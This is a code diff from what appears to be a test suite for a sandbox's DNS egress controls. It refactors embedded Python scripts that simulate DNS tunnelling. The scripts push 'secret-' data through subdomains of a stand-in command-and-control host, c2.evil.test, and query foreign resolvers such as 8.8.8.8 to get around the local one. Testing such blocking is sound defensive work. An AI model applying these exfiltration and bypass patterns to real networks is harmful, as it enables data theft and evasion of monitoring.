@@ -19,10 +19,11 @@ fn tunnel(world: &World) -> Result<(), String> {
     let scene = Scene::new(world, &[])?;
     world.site.dns().set("c2.evil.test", &[scene.evil.address().ip()]);
     scene.attack(
-        "for kind in (1, 28, 16, 5, 15, 2, 10, 12, 33, 65, 99, 255):
+        "def one(kind):
     ask('secret-' + 'a' * 40 + '.c2.evil.test', kind)
     message = question('tcp-' + str(kind) + '.c2.evil.test', kind)
     say('192.0.2.53', 53, len(message).to_bytes(2, 'big') + message)
+each(one, [(kind,) for kind in (1, 28, 16, 5, 15, 2, 10, 12, 33, 65, 99, 255)])
 for name in ('api.test.evil.test', 'evilapi.test', 'test', 'x' * 63 + '.test', 'data.api.test', 'api.test.'):
     ask(name, 16)
 try: socket.getaddrinfo('lookup.c2.evil.test', 80)
@@ -38,11 +39,11 @@ fn foreign(world: &World) -> Result<(), String> {
     let scene = Scene::new(world, &[])?;
     let trap = world.site.trap(Net::Forbidden, 53).map_err(|e| e.to_string())?;
     let script = format!(
-        "for server in ('{ip}', '8.8.8.8', '127.0.77.53'):
-    for port in (53, {port}):
-        ask('data.evil.test', 1, server, port)
-        message = question('data.evil.test')
-        say(server, port, len(message).to_bytes(2, 'big') + message)",
+        "def one(server, port):
+    ask('data.evil.test', 1, server, port)
+    message = question('data.evil.test')
+    say(server, port, len(message).to_bytes(2, 'big') + message)
+each(one, [(s, p) for s in ('{ip}', '8.8.8.8', '127.0.77.53') for p in (53, {port})])",
         ip = trap.address().ip(),
         port = trap.address().port(),
     );
